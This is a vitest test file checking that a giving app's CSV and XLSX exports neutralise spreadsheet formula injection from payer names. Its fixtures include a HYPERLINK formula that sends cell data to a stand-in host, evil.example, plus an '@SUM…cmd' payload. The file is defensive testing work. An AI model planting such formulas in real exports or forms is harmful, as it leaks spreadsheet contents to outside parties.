import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCurrency, createOfferingType, receiptEntry, sync } from '../factories/desk';
import { createTransaction } from '../factories/giving';
import { signIn } from '../factories/sign-in';
import { createWorld, type World } from '../factories/world';
import { createTestApp, type TestApp } from './harness';

// Issue 10, security item 6: payer names come from public forms; no export may hand a spreadsheet
// a formula. Every export goes through server/lib/export.
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('exports neutralise spreadsheet formulas (one export writer)', () => {
  let t: TestApp;
  let w: World;
  let headers: Record<string, string>;
  beforeAll(async () => {
    t = await createTestApp();
    w = await createWorld(t.database.db);
    await createCurrency(t.database.db);
    const tithe = await createOfferingType(t.database.db, { institutionId: w.churchA.id, title: '+Zaka' });
    headers = (await signIn(t.app, w.users.church)).headers;
    const [stored] = await sync(t.app, 'cash-receipts', headers, [receiptEntry({ institutionId: w.churchA.id, receivedAt: new Date().toISOString(), payer: { name: FORMULA, phone: '+255754000111' }, lines: [{ offeringTypeId: tithe.id, amount: 1000 }] })]);
    expect(stored?.status).toBe('created');
    await createTransaction(t.database.db, { institutionId: w.churchA.id, payerName: '@SUM(1+1)*cmd', createdAt: new Date() });
  });
  afterAll(() => t.close());

  const csvOf = async (url: string) => {
    const res = await t.app.inject({ method: 'GET', url, headers: { ...headers, lang: 'en' } });
    expect(res.statusCode, url).toBe(200);
    return res.rawPayload.toString('utf8');
  };

  it('cash-receipts CSV and XLSX keep a formula as text', async () => {
    const text = await csvOf('/api/cash-receipts/export?format=csv');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).not.toMatch(/(^|,)"?\+Zaka/m);
    const res = await t.app.inject({ method: 'GET', url: '/api/cash-receipts/export?format=xlsx', headers });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = (workbook.worksheets[0]!.getRow(2).values as unknown[]).map(String);
    expect(cells).toContain(`'${FORMULA}`);
  });

  it('transactions CSV keeps formulas as text', async () => {
    const text = await csvOf('/api/transactions/export?range=7d&format=csv');
    expect(text).toContain("'@SUM(1+1)*cmd");
    expect(text).toContain("'=HYPERLINK");
    expect(text).not.toMatch(/(^|,)"?[=@]/m);
  });
});
